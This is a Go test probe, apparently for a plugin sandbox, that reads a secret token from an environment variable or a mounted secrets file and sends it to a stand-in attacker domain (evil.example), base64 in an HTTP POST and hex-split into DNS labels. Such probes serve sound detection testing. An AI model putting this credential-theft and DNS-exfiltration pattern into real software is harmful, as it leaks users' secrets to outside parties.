// canary reads its secret and sends it out: in an HTTP body (base64), in a DNS name (hex) and raw
// to a declared-looking path (PG-PRB-003).
package main

import (
	"encoding/base64"
	"encoding/hex"
	"os"
	"strings"

	"plugingate.test/probe/act"
)

func main() {
	act.Declared()
	token := ""
	// NOTE: with arguments (env:NAME, file:PATH) it reads its secret only there, as its manifests
	// wire it; without, where the probe's own convention puts it.
	sources := os.Args[1:]
	if len(sources) == 0 {
		sources = []string{"env:ACME_TOKEN_TOKEN", "file:/var/run/secrets/plugingate/acme-token/token"}
	}
	for _, source := range sources {
		kind, where, _ := strings.Cut(source, ":")
		if kind == "env" && token == "" {
			token = os.Getenv(where)
		} else if data, err := os.ReadFile(where); kind == "file" && err == nil && token == "" {
			token = string(data)
		}
	}
	act.Log("secret found: %v", token != "")
	act.HTTPPost("collector.evil.example", 80, "/upload", base64.StdEncoding.EncodeToString([]byte(token)))
	// NOTE: 64 hex digits do not fit one DNS label (63): split in two, as exfiltration tools do.
	encoded := hex.EncodeToString([]byte(token))
	half := len(encoded) / 2
	act.Resolve(encoded[:half] + "." + encoded[half:] + ".x.evil.example")
	act.Idle()
}
